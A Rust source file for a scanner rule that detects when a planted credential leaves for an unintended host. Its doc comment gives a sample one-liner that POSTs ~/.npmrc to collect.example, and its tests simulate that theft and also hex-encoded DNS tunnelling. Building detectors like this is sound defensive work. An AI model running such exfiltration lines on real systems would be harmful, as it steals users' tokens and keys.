//! **What.** The bytes of a planted secret reach a host that the secret is not meant for: in a request, in DNS names, over
//! a connection or in the arguments of a network program, as they are or under any common encoding or several of them.
//!
//! **Why.** Tokens and keys are what install-time thieves come for. Each secret in the made-up world exists once, so its
//! bytes in an outgoing payload can come from nowhere else, and each has an audience: a registry token may go to its
//! registry, a cloud key to its cloud.
//!
//! **Example.** `https.request('https://collect.example/', {method: 'POST'}).end(fs.readFileSync(home + '/.npmrc'))`
//!
//! **Benign look-alike.** A publishing tool sends the registry token to the registry. That is use, not theft, and no
//! finding.
//!
//! Since 0.1.0.

use super::{Confidence, Finding, Leak, Meta, Rule, Severity, View};
use crate::trace::{Decoy, Event, Kind};
use std::collections::{BTreeMap, BTreeSet};

/// The rule.
#[derive(Debug)]
pub(super) struct Check;

/// Secrets that a sentence names; the rest is counted.
const NAMED: usize = 4;

impl Rule for Check {
    const META: Meta = Meta {
        id: "credential-exfiltration",
        title: "A credential is sent to a host that it is not meant for",
        severity: Severity::Critical,
        confidence: Confidence::High,
        technique: "T1041",
        phases: &[],
    };

    fn check(view: &View<'_>) -> Vec<Finding> {
        // One finding for each host: a thief who tries three times stole once.
        let mut hosts: BTreeMap<&str, Vec<&Leak<'_>>> = BTreeMap::new();
        for leak in view.leaks().iter().filter(|leak| !leak.allowed) {
            if let Some(out) = view.outgoing().get(leak.outgoing) {
                hosts.entry(&out.host).or_default().push(leak);
            }
        }
        let finding = |(host, leaks): (&str, Vec<&Leak<'_>>)| stolen(view, host, &leaks);
        hosts.into_iter().filter_map(finding).collect()
    }
}

/// The finding for all that one host gets.
fn stolen(view: &View<'_>, host: &str, leaks: &[&Leak<'_>]) -> Option<Finding> {
    let first = leaks.first()?;
    let out = view.outgoing().get(first.outgoing)?;
    let names: BTreeSet<&str> = leaks.iter().map(|leak| leak.decoy.name.as_str()).collect();
    let mut listed: Vec<String> = names
        .iter()
        .take(NAMED)
        .map(|name| (*name).to_owned())
        .collect();
    if names.len() > NAMED {
        listed.push(format!("{} more", names.len() - NAMED));
    }
    let verb = if names.len() == 1 { "goes" } else { "go" };
    let disguise = match first.encoding.as_str() {
        "" => String::new(),
        encoding => format!(", disguised by {encoding}"),
    };
    let detail = format!(
        "{} {verb} to {host} {}{disguise}",
        listed.join(", "),
        out.via.phrase()
    );
    let carriers = leaks
        .iter()
        .filter_map(|leak| view.outgoing().get(leak.outgoing));
    let sent = carriers.flat_map(|out| out.events.iter().copied());
    let decoys: Vec<&Decoy> = leaks.iter().map(|leak| leak.decoy).collect();
    let events: Vec<&Event> = sent
        .chain(sources(view, &decoys, out.events.first()))
        .collect();
    Some(Check::META.finding(view, &events, detail))
}

/// The reads that brought the secrets in before the first of them left.
fn sources<'t>(view: &View<'t>, decoys: &[&Decoy], before: Option<&&'t Event>) -> Vec<&'t Event> {
    let end = before.map_or(u32::MAX, |event| event.seq);
    let names: BTreeSet<&str> = decoys.iter().map(|decoy| decoy.name.as_str()).collect();
    let variables: BTreeSet<&str> = decoys
        .iter()
        .flat_map(|decoy| decoy.variables.iter().map(String::as_str))
        .collect();
    let reads = view.of_any(&[Kind::FileRead, Kind::EnvRead, Kind::EnvList]);
    let earlier = reads.into_iter().filter(|event| event.seq < end);
    earlier
        .filter(|event| match event.kind {
            Kind::FileRead => {
                let mut held = view.decoys_in(view.path(event));
                held.any(|decoy| names.contains(decoy.name.as_str()))
            }
            Kind::EnvRead => variables.contains(event.subject.as_str()),
            _ => !variables.is_empty(),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::{TOKEN, TraceBuilder};

    #[test]
    fn a_token_that_leaves_for_a_stranger_is_found_where_it_is_sent() {
        let mut builder = TraceBuilder::new();
        builder.event(Kind::FileRead, "/home/u/.npmrc");
        builder.at("install.js", 9);
        builder.payload(
            Kind::NetHttp,
            "POST https://collect.example/",
            TOKEN.as_bytes(),
        );
        let found = builder.check::<Check>();
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].at.as_ref().map(|at| at.line), Some(9));
        assert_eq!(found[0].evidence, [0, 1]);
    }

    #[test]
    fn encodings_do_not_hide_it() {
        let mut builder = TraceBuilder::new();
        let hex: String = TOKEN.bytes().map(|b| format!("{b:02x}")).collect();
        let (left, right) = hex.split_at(40);
        builder.event(Kind::NetDns, &format!("0.{left}.x.example"));
        builder.event(Kind::NetDns, &format!("1.{right}.x.example"));
        assert_eq!(builder.check::<Check>().len(), 1);
    }

    #[test]
    fn a_token_shown_to_its_registry_is_no_finding() {
        let mut builder = TraceBuilder::new();
        let seq = builder.event(Kind::NetHttp, "GET https://registry.test/-/whoami");
        builder.detail(seq, "header.authorization", &format!("Bearer {TOKEN}"));
        assert_eq!(builder.check::<Check>(), []);
    }
}
